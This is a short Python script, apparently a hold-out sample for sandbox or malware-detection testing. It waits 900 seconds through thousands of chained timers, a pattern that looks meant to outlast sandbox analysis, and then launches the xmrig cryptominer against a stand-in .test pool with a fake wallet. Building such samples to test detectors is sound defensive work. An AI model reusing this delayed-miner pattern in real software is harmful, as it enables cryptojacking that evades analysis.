#!/usr/bin/python3
"""Waits 900 s as a chain of 3,000 threading.Timer(0.3) links, each starting the next, while
main blocks on a threading.Event with no timeout; then mines (detonate hold-out test sample;
harmless, fake wallet, .test pool)."""

import os
import threading

LINKS = 3000 // int(os.environ.get("PYTHREAD_SCALE", "1"))
MINER = os.environ.get("PYTHREAD_MINER", "/usr/local/bin/xmrig")
POOL = "stratum+tcp://pool.thread.test:3333"
WALLET = "47thrEadW4itsFakeWa11etXo9qVb2LmN8cT5sR1dK6hJ3gP7yU4eZ0aB9nC2vX5mQ8wE1rT6yU3iO0pA7sD4fG2hJ5kL8zX"  # noqa: E501

finished = threading.Event()


def link(left: int) -> None:
    if left == 0:
        finished.set()
        return
    threading.Timer(0.3, link, args=(left - 1,)).start()


print(f"waiting 900 s in {LINKS} chained threading.Timer(0.3) links", flush=True)
threading.Timer(0.3, link, args=(LINKS - 1,)).start()
finished.wait()
print("done waiting; starting the miner", flush=True)
os.execv(MINER, ["xmrig", "-o", POOL, "-u", WALLET, "--shares", "1"])
